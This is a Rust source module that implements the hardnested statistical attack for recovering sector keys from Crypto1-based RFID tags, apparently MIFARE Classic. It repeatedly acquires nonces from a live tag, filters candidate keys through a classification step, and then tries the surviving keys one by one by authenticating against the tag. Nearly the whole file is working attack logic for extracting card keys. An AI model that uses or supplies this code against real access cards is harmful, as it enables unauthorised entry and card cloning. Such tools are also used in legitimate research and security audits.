//! Hardnested attack (C8): statistical attack on the hardened PRNG.

pub mod classify;
pub mod simd;

use crate::crypto1::BRUTE_FORCE_BOUND;
use crate::error::{EngineError, EngineResult, NotVulnerableReason};
use crate::keytable::{Key, KeyType};
use crate::transport::{abort_if_cancelled, DeviceTransport, NonceSample, PrngWeak};
use log::info;
use simd::SimdWidth;
use std::sync::atomic::AtomicBool;

/// Below this many surviving candidates, acquisition stops and the
/// remaining set is checked exhaustively (C8 step 3-4).
const BRUTE_FORCE_THRESHOLD: usize = 64;
const MAX_ROUNDS: usize = 32;
const SAMPLES_PER_ROUND: usize = 4;

pub fn run(
    transport: &mut dyn DeviceTransport,
    known_block: usize,
    known_kt: KeyType,
    known_key: Key,
    target_block: usize,
    target_kt: KeyType,
    known_target_key: Option<Key>,
    slow: bool,
    simd_hint: Option<SimdWidth>,
    cancel: &AtomicBool,
) -> EngineResult<Key> {
    if transport.detect_prng_weak()? == PrngWeak::Weak {
        // Hardnested still applies when invoked explicitly, but logging the
        // mismatch helps diagnose a misrouted call from the orchestrator.
        info!("hardnested invoked against a weak-PRNG tag");
    }

    let width = simd_hint.unwrap_or_else(simd::auto_detect);
    info!("hardnested: dispatching with SIMD width {width:?} (batch={})", width.batch_size());

    let card = transport.select()?;
    let cuid = card.uid32();

    let mut candidates: Vec<Key> = (0..BRUTE_FORCE_BOUND).collect();
    let mut all_samples: Vec<NonceSample> = Vec::new();

    for round in 0..MAX_ROUNDS {
        abort_if_cancelled(cancel)?;
        let samples = transport.acquire_nonces(
            known_block,
            known_kt,
            known_key,
            target_block,
            target_kt,
            SAMPLES_PER_ROUND,
            slow,
        )?;
        all_samples.extend(samples);

        candidates = classify::intersect(cuid, &all_samples, &candidates);
        info!(
            "hardnested round {round}: {} sample(s) acquired, {} candidate(s) remain",
            all_samples.len(),
            candidates.len()
        );

        if candidates.len() <= BRUTE_FORCE_THRESHOLD {
            break;
        }
    }

    if let Some(known) = known_target_key {
        if candidates.contains(&known) && transport.authenticate(target_block, target_kt, known).is_ok() {
            return Ok(known);
        }
    }

    brute_force(transport, target_block, target_kt, &candidates, cancel)
        .ok_or(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate))
}

/// Verify each remaining candidate against the real tag. The classification
/// pass above is where this attack parallelizes (§5: the device transport
/// itself is a mutex-protected singleton with at most one command in
/// flight, so final verification against the live tag is necessarily
/// sequential).
fn brute_force(
    transport: &mut dyn DeviceTransport,
    target_block: usize,
    target_kt: KeyType,
    candidates: &[Key],
    cancel: &AtomicBool,
) -> Option<Key> {
    for &key in candidates {
        if abort_if_cancelled(cancel).is_err() {
            return None;
        }
        if transport.authenticate(target_block, target_kt, key).is_ok() {
            return Some(key);
        }
    }
    None
}
